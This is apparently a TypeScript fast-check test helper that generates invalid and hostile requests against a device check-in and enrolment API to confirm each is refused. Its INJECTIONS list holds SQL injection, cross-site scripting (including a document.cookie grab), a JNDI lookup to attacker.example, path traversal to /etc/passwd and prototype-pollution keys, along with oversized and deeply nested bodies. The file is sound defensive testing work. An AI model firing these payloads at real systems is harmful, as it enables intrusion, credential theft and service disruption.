/**
 * Generators of malformed and hostile device-API requests (fast-check), for the property
 * tests (lib/api/hostile.test.ts, through serveApi) and the HTTP sample (e2e/device-api.spec.ts).
 * Every request generated is invalid by construction: a bad credential, a bad content type
 * or size, text that is not JSON, or a body with at least one mutation the schema must
 * refuse. So each one must be refused (4xx), and nothing may be stored. The list reads are
 * the exception: a random query may be valid, and a read stores nothing either way.
 */
import fc from "fast-check";
import type { EnrollmentBody } from "../domain/check-in";
import { CLIENT_STATUS_CODES } from "../domain/types";
import type { EndpointName } from "./endpoints";

export interface HostileFixture {
  apiKey: string;
  revokedApiKey: string;
  /** An active device: its token, and the body it enrolled with (check-ins are mutated from it). */
  device: { id: string; token: string; body: EnrollmentBody };
  /** Another active device (its token is foreign to `device`). */
  other: { id: string; token: string };
  retired: { id: string; token: string };
}

export interface HostileRequest {
  kind: string;
  endpoint: EndpointName;
  method: "GET" | "POST";
  path: string;
  params: { id?: string };
  headers: Record<string, string>;
  body?: string | Uint8Array;
  /** "refused": must answer 4xx. "read": a list read, 200 or 400. */
  expect: "refused" | "read";
}

export const INJECTIONS = [
  "' OR '1'='1",
  "'; DROP TABLE \"Device\"; --",
  "\"; DELETE FROM \"Report\" WHERE 1=1; --",
  "1; UPDATE \"Device\" SET \"verdict\"='COMPLIANT' --",
  "' UNION SELECT \"hash\" FROM \"ApiKey\" --",
  "Robert'); DROP TABLE \"CheckIn\";--",
  "<script>alert(1)</script>",
  "<img src=x onerror=alert(document.cookie)>",
  "javascript:alert(1)",
  "${7*7}",
  "{{7*7}}",
  "${jndi:ldap://attacker.example/a}",
  "../../../../etc/passwd",
  "%00%27%22",
  "{\"$gt\": \"\"}",
  "__proto__",
  "constructor",
  "NaN",
  "-1e309",
  "\u202Egnp.exe",
] as const;

const GUID = /^[0-9a-fA-F]{8}-[0-9a-fA-F]{4}-[0-9a-fA-F]{4}-[0-9a-fA-F]{4}-[0-9a-fA-F]{12}$/;
const VERSION = /^\d{1,4}(\.\d{1,4}){0,3}$/;
const IMEI = /^\d{14,16}$/;
const APP_ID = /^[A-Za-z0-9._-]+$/;

type Kind = "guid" | "nullableGuid" | "text" | "version" | "email" | "bool" | "apps" | "code" | "imei" | "object" | "platform";
interface Spec {
  path: string[];
  kind: Kind;
  max?: number;
  required: boolean;
}

const INVENTORY_SPECS: Spec[] = [
  { path: ["inventory"], kind: "object", required: true },
  { path: ["inventory", "name"], kind: "text", max: 255, required: true },
  { path: ["inventory", "manufacturer"], kind: "text", max: 100, required: true },
  { path: ["inventory", "model"], kind: "text", max: 100, required: true },
  { path: ["inventory", "osVersion"], kind: "version", required: true },
  { path: ["inventory", "serialNumber"], kind: "text", max: 64, required: true },
  { path: ["inventory", "ownerUpn"], kind: "email", required: true },
  { path: ["inventory", "udid"], kind: "text", max: 64, required: false },
  { path: ["inventory", "imei"], kind: "imei", required: false },
  { path: ["compliance"], kind: "object", required: true },
  { path: ["compliance", "passcodeSet"], kind: "bool", required: true },
  { path: ["compliance", "encrypted"], kind: "bool", required: true },
  { path: ["compliance", "jailbroken"], kind: "bool", required: true },
  { path: ["compliance", "installedApps"], kind: "apps", required: true },
  { path: ["azure", "deviceId"], kind: "nullableGuid", required: true },
  { path: ["azure", "clientStatusCode"], kind: "code", required: true },
];

const CHECK_IN_SPECS: Spec[] = [{ path: ["checkInId"], kind: "guid", required: true }, { path: ["azure"], kind: "object", required: true }, ...INVENTORY_SPECS];
const ENROLLMENT_SPECS: Spec[] = [{ path: ["platform"], kind: "platform", required: true }, { path: ["azure"], kind: "object", required: false }, ...INVENTORY_SPECS];

const KNOWN_KEYS = new Set(["checkInId", "platform", "inventory", "compliance", "azure", ...INVENTORY_SPECS.map((s) => s.path.at(-1)!)]);

/** Text an attacker or a broken client might send: any Unicode, injections, near misses. */
const anyText = fc.oneof(fc.string({ maxLength: 40 }), fc.string({ unit: "binary", maxLength: 40 }), fc.constantFrom(...INJECTIONS));

/** Nested arrays or objects, `depth` levels deep (at least 2, so never a valid empty list). */
const nested = fc.tuple(fc.integer({ min: 2, max: 3000 }), fc.boolean()).map(([depth, arrays]) => {
  let value: unknown = arrays ? [] : {};
  for (let i = 1; i < depth; i++) value = arrays ? [value] : { a: value };
  return value;
});

const nonString = fc.oneof(fc.integer(), fc.double(), fc.boolean(), fc.constant(null), fc.array(fc.jsonValue({ maxDepth: 2 }), { maxLength: 3 }), fc.dictionary(fc.string({ maxLength: 5 }), fc.jsonValue({ maxDepth: 1 }), { maxKeys: 3 }), nested);

function invalidValue(spec: Spec): fc.Arbitrary<unknown> {
  const max = spec.max ?? 255;
  switch (spec.kind) {
    case "guid":
    case "nullableGuid": {
      const strings = fc.oneof(anyText, fc.uuid().map((u) => `{${u}}`), fc.uuid().map((u) => `${u}0`), fc.uuid().map((u) => u.slice(0, 35))).filter((s) => !GUID.test(s));
      return spec.kind === "guid" ? fc.oneof(strings, nonString) : fc.oneof(strings, nonString.filter((v) => v !== null));
    }
    case "text":
      return fc.oneof(
        fc.integer({ min: max + 1, max: 60_000 }).map((n) => "A".repeat(n)),
        fc.tuple(fc.string({ maxLength: 10 }), fc.constantFrom("\u0000", "\u0007", "\n", "\t", "\u001b", "\u007f", "\u0085", "\uD800", "\uDFFF"), fc.string({ maxLength: 10 })).map(([a, c, b]) => `x${a}${c}${b}x`),
        fc.constantFrom("", " ", " \t\n "),
        nonString,
      );
    case "version":
      return fc.oneof(fc.oneof(anyText, fc.constantFrom("18.1.1.1.1", "18..1", "v18", "18.1-beta", "12345.1")).filter((s) => !VERSION.test(s)), nonString);
    case "email":
      return fc.oneof(anyText.filter((s) => !s.includes("@")), fc.constantFrom("ana@", "@contoso.example", "ana@contoso", "ana@@contoso.example", `${"a".repeat(250)}@contoso.example`), nonString);
    case "imei":
      return fc.oneof(anyText.filter((s) => !IMEI.test(s)), nonString);
    case "code":
      return fc.oneof(fc.oneof(anyText, fc.constantFrom("success", "USER_CANCELED", "User_Cancelled", "Success ", "MSALErrorUserCanceled", "-50005")).filter((s) => !(CLIENT_STATUS_CODES as readonly string[]).includes(s)), nonString);
    case "platform":
      return fc.oneof(fc.oneof(anyText, fc.constantFrom("ios", "WINDOWS", "Android")).filter((s) => s !== "IOS" && s !== "ANDROID"), nonString);
    case "bool":
      return fc.oneof(fc.constantFrom("true", "false", 0, 1, null, [], {}), fc.string({ maxLength: 5 }), fc.double(), nested);
    case "apps":
      return fc.oneof(
        fc.tuple(fc.array(fc.constantFrom("com.contoso.app", "com.microsoft.teams"), { maxLength: 3 }), fc.oneof(anyText.filter((s) => !APP_ID.test(s) || s.length > 255), nonString.filter((v) => typeof v !== "string"))).map(([ok, bad]) => [...ok, bad]),
        fc.integer({ min: 2001, max: 2600 }).map((n) => Array.from({ length: n }, (_, i) => `a${i}`)),
        fc.constantFrom("com.contoso.app", 7, null, true, {}),
        nested.filter((v) => !Array.isArray(v) || v.length > 0),
      );
    case "object":
      return fc.oneof(fc.constantFrom(null, "{}", 1, true, []), fc.array(fc.jsonValue({ maxDepth: 1 }), { maxLength: 3 }), nested.filter((v) => Array.isArray(v)));
  }
}

type Mutation = (body: Record<string, unknown>) => void;

function parentOf(body: Record<string, unknown>, path: string[]): Record<string, unknown> | null {
  let node: unknown = body;
  for (const key of path.slice(0, -1)) {
    if (typeof node !== "object" || node === null || Array.isArray(node)) return null;
    node = (node as Record<string, unknown>)[key];
  }
  return typeof node === "object" && node !== null && !Array.isArray(node) ? (node as Record<string, unknown>) : null;
}

function setOwn(target: Record<string, unknown>, key: string, value: unknown) {
  // defineProperty, so that "__proto__" becomes an own key of the JSON, not the prototype.
  Object.defineProperty(target, key, { value, enumerable: true, configurable: true, writable: true });
}

function mutations(specs: Spec[]): fc.Arbitrary<Mutation> {
  const set = fc.constantFrom(...specs).chain((spec) =>
    invalidValue(spec).map<Mutation>((value) => (body) => {
      const parent = parentOf(body, spec.path);
      if (parent) setOwn(parent, spec.path.at(-1)!, value);
    }),
  );
  const remove = fc.constantFrom(...specs.filter((s) => s.required)).map<Mutation>((spec) => (body) => {
    const parent = parentOf(body, spec.path);
    if (parent) delete parent[spec.path.at(-1)!];
  });
  const unknownKey = fc
    .tuple(
      fc.constantFrom<string[]>([], ["inventory"], ["compliance"], ["azure"]),
      fc.oneof(fc.string({ minLength: 1, maxLength: 30 }), fc.constantFrom("__proto__", "constructor", "prototype", "isCompliant", "admin", "verdict", "id", "tokenHash"), fc.integer({ min: 300, max: 5000 }).map((n) => "k".repeat(n))),
      fc.jsonValue({ maxDepth: 2 }),
    )
    .filter(([, key]) => !KNOWN_KEYS.has(key))
    .map<Mutation>(([path, key, value]) => (body) => {
      const target = path.length === 0 ? body : parentOf(body, [...path, "x"]);
      if (target) setOwn(target, key, value);
    });
  return fc.oneof({ weight: 5, arbitrary: set }, { weight: 1, arbitrary: remove }, { weight: 2, arbitrary: unknownKey });
}

function mutatedBody(base: () => Record<string, unknown>, specs: Spec[]): fc.Arbitrary<string> {
  return fc.array(mutations(specs), { minLength: 1, maxLength: 3 }).map((list) => {
    const body = base();
    for (const mutate of list) mutate(body);
    return JSON.stringify(body);
  });
}

const JSON_TYPE = { "content-type": "application/json" };

/** Credentials that must not work where they are used (printable ASCII: what an HTTP header can carry). */
function badAuthorization(f: HostileFixture, kind: "device" | "apiKey"): fc.Arbitrary<Record<string, string>> {
  const values = fc.oneof(
    fc.constant(undefined),
    fc.string({ maxLength: 80 }).map((s) => s.trim()),
    fc.constantFrom(...INJECTIONS.filter((s) => /^[\x20-\x7e]*$/.test(s))).map((s) => `Bearer ${s}`),
    fc.string({ minLength: 1, maxLength: 60 }).map((s) => `Bearer ${s.replace(/\s/g, "")}`),
    fc.stringMatching(/^[A-Za-z0-9_-]{43}$/).map((s) => `Bearer ${kind === "device" ? "cdt_" : "crk_"}${s}`),
    fc.constant(`Basic ${Buffer.from("admin:admin").toString("base64")}`),
    fc.constant(`Bearer ${kind === "device" ? f.apiKey : f.device.token}`),
    fc.constant(`Bearer ${kind === "device" ? f.other.token : f.revokedApiKey}`),
    ...(kind === "device" ? [fc.constant(`Bearer ${f.retired.token}`)] : []),
  );
  return values.map((v): Record<string, string> => (v === undefined ? {} : { authorization: v }));
}

const BAD_CONTENT_TYPES = ["text/plain", "application/x-www-form-urlencoded", "multipart/form-data; boundary=x", "application/json; charset=latin1", "application/jsonx", "application/xml", "application/json-patch+json", "*/*"];

/** Bodies that are broken as a whole, whatever they hold. */
type Broken = { kind: string; body: string | Uint8Array; headers: Record<string, string> };

function brokenBody(valid: string): fc.Arbitrary<Broken> {
  return fc.oneof<fc.Arbitrary<Broken>[]>(
    fc.jsonValue({ maxDepth: 4 }).map((v) => ({ kind: "random JSON", body: JSON.stringify(v) ?? "null", headers: JSON_TYPE })),
    fc.unicodeJsonValue({ maxDepth: 3 }).map((v) => ({ kind: "random JSON", body: JSON.stringify(v) ?? "null", headers: JSON_TYPE })),
    fc.integer({ min: 0, max: valid.length - 1 }).map((n) => ({ kind: "truncated", body: valid.slice(0, n), headers: JSON_TYPE })),
    fc.uint8Array({ maxLength: 200 }).map((b) => ({ kind: "random bytes", body: b, headers: JSON_TYPE })),
    fc.integer({ min: 100, max: 30_000 }).map((d) => ({ kind: "deep nesting", body: "[".repeat(d) + "]".repeat(d), headers: JSON_TYPE })),
    fc.integer({ min: 100, max: 6000 }).map((d) => ({ kind: "deep nesting", body: '{"a":'.repeat(d) + "1" + "}".repeat(d), headers: JSON_TYPE })),
    fc.integer({ min: 65_537, max: 300_000 }).map((n) => ({ kind: "oversized", body: `${valid.slice(0, -1)},"pad":"${"x".repeat(n)}"}`, headers: JSON_TYPE })),
    fc.constantFrom(...BAD_CONTENT_TYPES, undefined).map((type) => ({ kind: "content type", body: valid, headers: type === undefined ? ({} as Record<string, string>) : { "content-type": type } })),
    fc.constantFrom(...INJECTIONS).map((s) => ({ kind: "injection as body", body: s, headers: JSON_TYPE })),
  );
}

export function hostileRequests(f: HostileFixture): fc.Arbitrary<HostileRequest> {
  const { device } = f;
  const devicePath = `/api/v1/devices/${device.id}`;
  const validCheckIn = (checkInId: string) => ({ checkInId, inventory: device.body.inventory, compliance: device.body.compliance, azure: device.body.azure });
  const clone = (value: object) => () => JSON.parse(JSON.stringify(value)) as Record<string, unknown>;
  const auth = (token: string) => ({ authorization: `Bearer ${token}` });

  const checkIn = (kind: string, body: string | Uint8Array, headers: Record<string, string>, id = device.id): HostileRequest => ({
    kind,
    endpoint: "checkIn",
    method: "POST",
    path: `/api/v1/devices/${encodeURIComponent(id)}/check-ins`,
    params: { id },
    headers,
    body,
    expect: "refused",
  });
  const enroll = (kind: string, body: string | Uint8Array, headers: Record<string, string>): HostileRequest => ({ kind, endpoint: "enroll", method: "POST", path: "/api/v1/enrollments", params: {}, headers, body, expect: "refused" });

  const validCheckInText = fc.uuid().map((id) => JSON.stringify(validCheckIn(id)));
  const validEnrollText = JSON.stringify({ ...device.body, inventory: { ...device.body.inventory, serialNumber: "HOSTILE-0001" } });

  return fc.oneof(
    { weight: 8, arbitrary: fc.uuid().chain((id) => mutatedBody(clone(validCheckIn(id)), CHECK_IN_SPECS)).map((body) => checkIn("check-in body mutated", body, { ...JSON_TYPE, ...auth(device.token) })) },
    { weight: 4, arbitrary: mutatedBody(clone(device.body), ENROLLMENT_SPECS).map((body) => enroll("enrolment body mutated", body, { ...JSON_TYPE, ...auth(f.apiKey) })) },
    { weight: 3, arbitrary: validCheckInText.chain((valid) => brokenBody(valid)).map((b) => checkIn(`check-in ${b.kind}`, b.body, { ...b.headers, ...auth(device.token) })) },
    { weight: 2, arbitrary: brokenBody(validEnrollText).map((b) => enroll(`enrolment ${b.kind}`, b.body, { ...b.headers, ...auth(f.apiKey) })) },
    { weight: 3, arbitrary: fc.tuple(validCheckInText, badAuthorization(f, "device")).map(([body, headers]) => checkIn("check-in bad credential", body, { ...JSON_TYPE, ...headers })) },
    { weight: 1, arbitrary: badAuthorization(f, "apiKey").map((headers) => enroll("enrolment bad credential", validEnrollText, { ...JSON_TYPE, ...headers })) },
    { weight: 1, arbitrary: validCheckInText.map((body) => checkIn("retired device check-in", body, { ...JSON_TYPE, ...auth(f.retired.token) }, f.retired.id)) },
    {
      weight: 2,
      arbitrary: fc
        .tuple(validCheckInText, fc.oneof(fc.constantFrom(...INJECTIONS), fc.string({ maxLength: 60 }), fc.uuid(), fc.constant(f.other.id), fc.constant(device.id.toUpperCase() + " ")))
        .filter(([, id]) => id.toLowerCase() !== device.id)
        .map(([body, id]) => checkIn("check-in another path", body, { ...JSON_TYPE, ...auth(device.token) }, id)),
    },
    {
      weight: 1,
      arbitrary: fc
        .tuple(badAuthorization(f, "device"), fc.oneof(fc.constant(device.id), fc.constantFrom(...INJECTIONS)))
        .map(([headers, id]) => ({ kind: "device read bad credential", endpoint: "device" as const, method: "GET" as const, path: devicePath, params: { id }, headers, expect: "refused" as const })),
    },
    {
      weight: 2,
      arbitrary: fc
        .tuple(
          fc.constantFrom<EndpointName>("listDevices", "listReports"),
          fc.array(fc.tuple(fc.oneof(fc.constantFrom("page", "size", "sort", "dir", "q", "platform", "clientStatus", "verdict", "lifecycle", "noAzureId", "deviceId", "trigger", "state", "from", "to"), fc.string({ maxLength: 12 })), fc.oneof(fc.string({ maxLength: 30 }), fc.constantFrom(...INJECTIONS), fc.integer().map(String))), { maxLength: 5 }),
          fc.boolean(),
        )
        .chain(([endpoint, pairs, good]) =>
          (good ? fc.constant(auth(f.apiKey)) : badAuthorization(f, "apiKey")).map((headers) => {
            const query = new URLSearchParams(pairs).toString();
            return { kind: good ? "list query" : "list bad credential", endpoint, method: "GET" as const, path: `${endpoint === "listDevices" ? "/api/v1/devices" : "/api/v1/reports"}${query ? `?${query}` : ""}`, params: {}, headers, expect: good ? ("read" as const) : ("refused" as const) };
          }),
        ),
    },
  );
}

export function toRequest(r: HostileRequest, origin = "http://localhost"): Request {
  return new Request(`${origin}${r.path}`, { method: r.method, headers: r.headers, body: r.method === "GET" ? undefined : (r.body as BodyInit | undefined) });
}

/** The statuses a refused request may answer. */
export const REFUSALS = [400, 401, 403, 410, 413, 415];
